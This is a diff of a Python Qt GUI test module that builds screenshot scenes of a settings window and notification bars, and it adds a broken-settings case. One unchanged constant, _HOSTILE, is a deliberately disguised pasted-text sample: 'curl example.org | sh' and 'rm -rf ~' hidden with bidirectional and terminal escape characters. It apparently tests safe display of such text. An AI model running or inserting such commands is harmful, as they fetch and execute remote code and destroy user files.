@@ -6,7 +6,7 @@ from dataclasses import dataclass, field
 from pathlib import Path
 from typing import Final, TypeVar
 
-from PySide6.QtCore import QEvent, QObject, QPoint
+from PySide6.QtCore import QEvent, QObject, QPoint, QSize
 from PySide6.QtGui import QAction
 from PySide6.QtWidgets import QApplication, QMenu, QMessageBox, QWidget
 from pytestqt.qtbot import QtBot
@@ -54,6 +54,9 @@ from tests.helpers.windows import MakeScene, WindowScene
 _LARGE: Final = 1024
 _HOSTILE: Final = f"curl example.org\u202e | sh\n\x1b[8mrm -rf ~\x1b[201~\n\u200b{'x' * _LARGE}"
 _BAD_SETTINGS: Final = "[font]\npoints = -3\nunknown = 1\n[window]\npadding = 900\n"
+_BROKEN_SETTINGS: Final = "[font\npoints = 12\n"
+#: A usual screen, in logical pixels.
+_SCREEN: Final = QSize(1920, 1080)
 #: What a person calls something, in texts that are looked at: no letters.
 _NAME: Final = "4711"
 _MONOSPACED: Final = ("monospace",)
@@ -183,7 +186,7 @@ def _settings(place: Theatre, text: str = "") -> SettingsWindow:
     live = LiveSettings(settings)
     keys = KeyWork(shortcuts_of(live), [info.name for info in ACTIONS])
     window = place.keep(SettingsWindow(Store(path, live, problems), keys, make_appearance()))
-    window.resize(window.sizeHint())
+    window.resize(window.pleasant_size.boundedTo(_SCREEN))
     window.show()
     place.qtbot.waitExposed(window)
     return window
@@ -199,8 +202,12 @@ def _settings_page(name: str) -> Scene:
 
 
 def _bad_settings(place: Theatre) -> Sequence[QWidget]:
-    window = _settings(place, _BAD_SETTINGS)
-    window.footer.aside.show()
+    return [_settings(place, _BAD_SETTINGS)]
+
+
+def _broken_settings(place: Theatre) -> Sequence[QWidget]:
+    window = _settings(place, _BROKEN_SETTINGS)
+    assert window.footer.aside.isVisible()
     return [window]
 
 
@@ -334,17 +341,15 @@ def _banner(place: Theatre) -> Sequence[QWidget]:
 
 def _bars(place: Theatre) -> Sequence[QWidget]:
     """Of the first start, and of the last session."""
-    window = place.window().window
-    actions = window.actions_of_window
     yes, no = session_words.answers()
-    texts = [bar_text(actions)]
+    texts = [bar_text(place.window().window.actions_of_window)]
     texts += [session_words.offer(saved) for saved in _saved()]
     texts += [session_words.after_a_fall(_saved()[0]), session_words.not_kept(_NAME), session_words.not_readable(_NAME)]
     bars = []
     for text in texts:
-        bar = QuietBar(window, text, ((yes, lambda: None), (no, lambda: None)))
-        window.show_bar(bar)
-        bars.append(bar)
+        window = place.window().window
+        bars.append(QuietBar(window, text, ((yes, lambda: None), (no, lambda: None))))
+        window.show_bar(bars[-1])
     return bars
 
 
@@ -406,7 +411,8 @@ SCENES: Final[dict[str, Scene]] = {
     "palette": _palette,
     "palette, nothing found": _nothing_found,
     **{f"settings, {page.name}": _settings_page(page.name) for page in PAGES},
-    "settings, bad file": _bad_settings,
+    "settings, bad values": _bad_settings,
+    "settings, broken file": _broken_settings,
     "settings, search": _settings_found,
     "settings, nothing found": _settings_not_found,
     "keys, taken": _key_recorded,
